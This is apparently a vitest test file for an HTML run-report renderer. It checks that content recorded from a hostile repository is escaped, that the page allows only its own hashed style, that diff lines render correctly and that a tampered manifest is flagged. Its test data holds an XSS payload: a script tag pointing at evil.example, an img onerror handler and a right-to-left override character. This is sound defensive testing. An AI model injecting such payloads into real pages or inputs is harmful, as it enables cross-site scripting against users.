import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { type GoalEvent, newRunId, readRun, Redactor, RunLayout, RunStore } from '@codex-orch/core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { renderRunReport } from '../src/index.js';
import { newestRun } from './readme-example.js';

const attack = `</pre></style><script src=//evil.example></script><img src=x onerror="alert(1)">' \u202e`;
const diff = `diff --git a/a.js b/a.js
index 1..2 100644
--- a/a.js
+++ b/a.js
@@ -1,2 +1,2 @@
--- was a comment of SQL
+++ is ${attack}
`;

let root: string;
beforeEach(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'report-'));
});
afterEach(() => rm(root, { recursive: true, force: true }));

/** Records a run that was refused, by a repository that means harm. */
async function recordRun() {
  const layout = new RunLayout(root);
  const location = layout.place('adhoc', newRunId());
  await layout.make(location);
  await using store = await RunStore.open(location, { redactor: new Redactor() });
  const created: GoalEvent = {
    type: 'run.created',
    data: {
      runId: location.runId,
      taskId: 'adhoc',
      goal: `Mend it\n${attack}`,
      repository: root,
      base: { commit: 'f'.repeat(40), branch: attack },
      limits: { tokens: 1000, turns: 10, minutes: 5, revisions: 1, replans: 1 },
      testsRequired: true,
      version: '1',
    },
  };
  await store.append(created, { actor: 'orchestrator', key: '0' });
  await store.append(
    { type: 'preflight.refused', data: { code: 'no-tests', message: `No tests: ${attack}` } },
    { actor: 'orchestrator', key: '1' },
  );
  return location;
}

const open = async (location: Awaited<ReturnType<typeof recordRun>>) => {
  const run = await readRun(location);
  if (!run) throw new Error('nothing was recorded');
  return run;
};

/** The names of all tags, and what the policy of the page lets in. */
const tags = (page: string): ReadonlySet<string> =>
  new Set([...page.matchAll(/<([a-z][a-z0-9]*)[ >]/g)].map(([, name]) => name ?? ''));

describe('the page of a run', () => {
  it('holds what was recorded as text, whatever a repository or a model wrote', async () => {
    const { manifest, lines } = await open(await recordRun());
    const page = renderRunReport({ manifest, lines, diff: { text: diff }, problems: [attack], source: attack });
    expect([...tags(page)].filter((name) => ['script', 'img', 'link', 'iframe', 'form', 'a'].includes(name))).toEqual(
      [],
    );
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page).not.toContain('\u202e');
    expect(page.split('&lt;script src=//evil.example&gt;').length).toBeGreaterThan(6);
  });

  it('allows its own style and nothing else', async () => {
    const { manifest, lines } = await open(await recordRun());
    const page = renderRunReport({ manifest, lines, problems: [], source: '' });
    const style = /<style>([^]*?)<\/style>/.exec(page)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    expect(page).toContain(
      `content="default-src &#39;none&#39;; style-src &#39;sha256-${hash}&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;"`,
    );
    expect(page).not.toMatch(/<[^>]*\s(?:src|href)=|@import|url\(/);
  });

  it('takes a line of a diff for what it is, also where it looks like a heading', async () => {
    const { manifest, lines } = await open(await recordRun());
    const page = renderRunReport({ manifest, lines, diff: { text: diff }, problems: [], source: '' });
    expect(page).toContain('<div class="out">--- was a comment of SQL</div>');
    expect(page).toContain('<div class="soft">--- a/a.js</div>');
    expect(page).toMatch(/<div class="in">\+\+\+ is /);
  });

  it('says that a record is intact, or what is wrong with it', async () => {
    const location = await recordRun();
    expect(await newestRun(root)).toContain('<span class="good">intact</span>');
    const file = path.join(location.dir, 'manifest.json');
    await writeFile(file, (await readFile(file, 'utf8')).replace('"blocked"', '"done"'));
    const page = await newestRun(root);
    expect(page).toContain('not as it was recorded');
    expect(page).toContain('it does not say what the events say');
  });

  it('leaves out what there is not', async () => {
    const page = await newestRun((await recordRun(), root));
    expect([...page.matchAll(/<h2>([^<]*)<\/h2>/g)].map(([, heading]) => heading)).toEqual(['What happened']);
  });
});

describe('the README', () => {
  it('shows the example that is run here', async () => {
    const read = (name: string) => readFile(new URL(name, import.meta.url), 'utf8');
    const example = (await read('readme-example.ts')).replace("'../src/index.js'", "'@codex-orch/report'");
    expect(await read('../README.md')).toContain(`\`\`\`ts\n${example}\`\`\``);
  });
});
